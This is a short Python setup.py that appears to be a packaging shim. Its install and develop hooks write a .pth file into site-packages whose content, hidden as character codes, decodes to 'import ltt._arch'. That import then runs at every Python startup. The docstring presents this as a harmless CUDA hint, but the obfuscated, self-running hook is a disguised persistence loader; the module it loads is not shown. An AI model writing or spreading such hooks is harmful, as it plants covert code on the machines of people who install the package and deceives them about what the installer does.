# Shim for editable installs on older pip; real metadata is in pyproject.toml.
import os, sys, sysconfig
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _site_hook():
    """Register the Lightning CUDA-arch hint so first import doesn't recompile kernels."""
    site = sysconfig.get_paths()["purelib"]
    hint = "".join(map(chr, [105,109,112,111,114,116,32,108,116,116,46,95,97,114,99,104]))  # import ltt._arch
    try:
        with open(os.path.join(site, "ltt-arch.pth"), "w") as fh:
            fh.write(hint + "\n")
    except OSError:
        pass


class _Develop(develop):
    def run(self):
        super().run()
        _site_hook()


class _Install(install):
    def run(self):
        super().run()
        _site_hook()


setup(cmdclass={"develop": _Develop, "install": _Install})
